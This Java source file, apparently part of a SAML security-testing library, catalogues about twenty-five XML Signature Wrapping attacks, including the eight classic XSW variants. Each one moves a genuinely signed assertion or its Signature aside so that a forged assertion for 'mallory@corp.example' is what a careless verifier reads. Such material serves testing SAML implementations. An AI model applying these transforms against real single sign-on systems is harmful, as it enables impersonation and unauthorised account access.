package org.peakonjit.saml.attack;

import java.util.List;
import java.util.function.BiConsumer;
import java.util.function.Consumer;
import java.util.function.UnaryOperator;
import org.w3c.dom.Document;
import org.w3c.dom.Element;

/**
 * A good signature, and somebody else's assertion where a careless reader looks ("On Breaking SAML: Be Whoever You Want to
 * Be", USENIX Security 2012, has the eight classic ones).
 */
public final class WrappingAttacks {

    public static final List<Attack> ALL = List.of(
            Attack.of(
                    "XSW1: signed Response inside the forged one's Signature",
                    ofResponse((root, original) ->
                            Dom.childNamed(root, "Signature").appendChild(original))),
            Attack.of(
                    "XSW2: signed Response in front of the forged one's Signature",
                    ofResponse((root, original) -> root.insertBefore(original, Dom.childNamed(root, "Signature")))),
            Attack.of(
                    "XSW3: forged assertion first",
                    ofAssertion((evil, good) -> good.getParentNode().insertBefore(evil, good))),
            Attack.of(
                    "XSW3b: forged assertion last",
                    ofAssertion((evil, good) -> good.getParentNode().appendChild(evil))),
            Attack.of("XSW4: forged assertion around the signed one", ofAssertion((evil, good) -> {
                good.getParentNode().replaceChild(evil, good);
                evil.appendChild(good);
            })),
            Attack.of("XSW5: forged assertion takes the Signature", ofAssertion((evil, good) -> {
                moveSignature(good, evil);
                good.getParentNode().insertBefore(evil, good);
            })),
            Attack.of("XSW6: signed assertion inside the forged one's Signature", ofAssertion((evil, good) -> {
                moveSignature(good, evil);
                good.getParentNode().replaceChild(evil, good);
                Dom.childNamed(evil, "Signature").appendChild(good);
            })),
            Attack.of(
                    "XSW7: forged assertion in Extensions",
                    ofAssertion((evil, good) ->
                            Dom.insert(good, Dom.PROTOCOL, "samlp:Extensions").appendChild(evil))),
            Attack.of("XSW7b: signed assertion in Extensions", ofAssertion((evil, good) -> {
                Element extensions = Dom.insert(good, Dom.PROTOCOL, "samlp:Extensions");
                good.getParentNode().replaceChild(evil, good);
                extensions.appendChild(good);
            })),
            Attack.of("XSW8: signed assertion in an Object of the forged one's Signature", ofAssertion((evil, good) -> {
                moveSignature(good, evil);
                good.getParentNode().replaceChild(evil, good);
                Dom.append(Dom.childNamed(evil, "Signature"), Dom.DSIG, "ds:Object")
                        .appendChild(good);
            })),
            Attack.of("signed assertion in the forged one's Advice", ofAssertion((evil, good) -> {
                good.getParentNode().replaceChild(evil, good);
                Dom.append(evil, Dom.ASSERTION, "saml:Advice").appendChild(good);
            })),
            Attack.of("signed assertion in StatusDetail", ofAssertion((evil, good) -> {
                good.getParentNode().replaceChild(evil, good);
                Dom.append(Dom.childNamed((Element) evil.getParentNode(), "Status"), Dom.PROTOCOL, "samlp:StatusDetail")
                        .appendChild(good);
            })),
            Attack.of(
                    "forged assertion in StatusDetail",
                    ofAssertion((evil, good) -> Dom.append(
                                    Dom.childNamed((Element) good.getParentNode(), "Status"),
                                    Dom.PROTOCOL,
                                    "samlp:StatusDetail")
                            .appendChild(evil))),
            Attack.of("signed assertion in an attribute value", ofAssertion((evil, good) -> {
                good.getParentNode().replaceChild(evil, good);
                Dom.below(evil, "AttributeValue").appendChild(good);
            })),
            Attack.of("signed assertion in SubjectConfirmationData", ofAssertion((evil, good) -> {
                good.getParentNode().replaceChild(evil, good);
                Dom.below(evil, "SubjectConfirmationData").appendChild(good);
            })),
            Attack.of("signed assertion in an unknown element", ofAssertion((evil, good) -> {
                good.getParentNode().replaceChild(evil, good);
                Dom.append((Element) evil.getParentNode(), "urn:x", "x:any").appendChild(good);
            })),
            Attack.of("nested Response with the signed assertion", ofAssertion((evil, good) -> {
                Element root = (Element) good.getParentNode();
                Element nested = Dom.copy(root);
                nested.setAttribute("ID", "_nested");
                root.replaceChild(evil, good);
                root.appendChild(nested);
            })),
            Attack.of("forged assertion keeps the signed one's ID", ofAssertion((evil, good) -> {
                evil.setAttribute("ID", good.getAttribute("ID"));
                good.getParentNode().insertBefore(evil, good);
            })),
            Attack.of(
                    "forged assertion in SAML 1.1's namespace beside the signed one",
                    ofAssertion((evil, good) -> Dom.append(
                            (Element) good.getParentNode(), "urn:oasis:names:tc:SAML:1.0:assertion", "a:Assertion"))),
            Attack.of(
                    "second unsigned assertion in a signed Response",
                    honest -> honest.dom(document -> {
                                Element good = Dom.only(document, "Assertion");
                                Element evil = Dom.copy(good);
                                evil.setAttribute("ID", "_evil");
                                good.getParentNode().appendChild(evil);
                            })
                            .responseSigned(honest.parties().honest())),
            Attack.of(
                    "unsigned assertion added to a signed Response",
                    honest -> honest.responseSigned(honest.parties().honest()).afterwards(document -> {
                        Element good = Dom.only(document, "Assertion");
                        good.getParentNode().insertBefore(Dom.evilTwin(good), good);
                    })),
            Attack.of(
                    "signed assertion replaced in a signed Response",
                    honest -> honest.responseSigned(honest.parties().honest()).afterwards(document -> {
                        Element good = Dom.only(document, "Assertion");
                        good.getParentNode().replaceChild(Dom.evilTwin(good), good);
                    })),
            Attack.of(
                    "Signature in Extensions",
                    ofAssertion((evil, good) -> Dom.insert(good, Dom.PROTOCOL, "samlp:Extensions")
                            .appendChild(Dom.copy(Dom.childNamed(good, "Signature"))))),
            Attack.of(
                    "Signature deep in the assertion",
                    ofAssertion(
                            (evil, good) -> Dom.below(good, "Subject").appendChild(Dom.childNamed(good, "Signature")))),
            Attack.of("no assertion", afterwards(document -> Dom.remove(Dom.only(document, "Assertion")))));

    private WrappingAttacks() {}

    private static UnaryOperator<ForgedResponse> ofAssertion(BiConsumer<Element, Element> evilAndGood) {
        return afterwards(document -> {
            Element good = Dom.only(document, "Assertion");
            evilAndGood.accept(Dom.evilTwin(good), good);
        });
    }

    private static UnaryOperator<ForgedResponse> ofResponse(BiConsumer<Element, Element> forgedAndOriginal) {
        return honest -> honest.assertionSigned(null)
                .responseSigned(honest.parties().honest())
                .afterwards(document -> {
                    Element root = document.getDocumentElement();
                    Element original = Dom.copy(root);
                    Dom.remove(Dom.childNamed(original, "Signature"));
                    root.setAttribute("ID", "_evil");
                    Dom.below(root, "Assertion").setAttribute("ID", "_evil-assertion");
                    Dom.below(root, "NameID").setTextContent("mallory@corp.example");
                    forgedAndOriginal.accept(root, original);
                });
    }

    private static UnaryOperator<ForgedResponse> afterwards(Consumer<Document> change) {
        return honest -> honest.afterwards(change);
    }

    private static void moveSignature(Element from, Element to) {
        to.insertBefore(
                Dom.childNamed(from, "Signature"), Dom.childNamed(to, "Issuer").getNextSibling());
    }
}
